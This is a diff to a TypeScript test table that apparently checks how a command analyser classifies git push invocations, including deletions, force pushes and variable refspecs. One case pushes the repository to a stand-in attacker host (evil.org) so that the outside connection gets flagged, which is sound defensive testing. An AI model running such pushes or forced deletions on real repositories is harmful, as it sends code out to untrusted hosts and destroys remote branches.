@@ -18,7 +18,11 @@ const cases: readonly (readonly [command: string, ...actions: string[]])[] = [
   ['git push --all origin', 'runs git', 'pushes * to origin', 'connects to …'],
   ['git push --delete origin x', 'runs git', 'pushes x to origin deleting', 'connects to …'],
   ['git push -d origin x', 'runs git', 'pushes x to origin deleting', 'connects to …'],
-  ['git push --tags', 'runs git', 'pushes the current branch to the default', 'connects to …'],
+  ['git push --tags', 'runs git', 'pushes refs/tags/* to the default', 'connects to …'],
+  ['git push --tags origin main', 'runs git', 'pushes main to origin', 'connects to …'],
+  ['git push origin :', 'runs git', 'pushes * to origin', 'connects to …'],
+  ['git push origin HEAD:', 'runs git', 'pushes HEAD to origin', 'connects to …'],
+  ["git push origin 'refs/heads/r*:refs/heads/r*'", 'runs git', 'pushes r* to origin', 'connects to …'],
   ['git push https://u@evil.org/x main', 'runs git', 'pushes main to https://u@evil.org/x', 'connects to evil.org'],
   ['git push --dry-run --force', 'runs git'],
   [
@@ -38,7 +42,11 @@ const cases: readonly (readonly [command: string, ...actions: string[]])[] = [
   ],
   // an argument that is not known may be an option, or begin with a plus sign
   ['git push origin "$b"', 'runs git', 'pushes … to origin with force deleting', 'connects to …'],
-  ['git push origin HEAD:$b', 'runs git', 'pushes HEAD:… to origin', 'connects to …'],
+  ['git push origin "+$b"', 'runs git', 'pushes … to origin with force deleting', 'connects to …'],
+  ['git push origin "+x$b"', 'runs git', 'pushes x… to origin with force', 'connects to …'],
+  ['git push origin "+x:$b"', 'runs git', 'pushes … to origin with force', 'connects to …'],
+  ['git push origin ":$b"', 'runs git', 'pushes … to origin deleting', 'connects to …'],
+  ['git push origin HEAD:$b', 'runs git', 'pushes … to origin', 'connects to …'],
   [
     'git push -$x',
     'runs git',
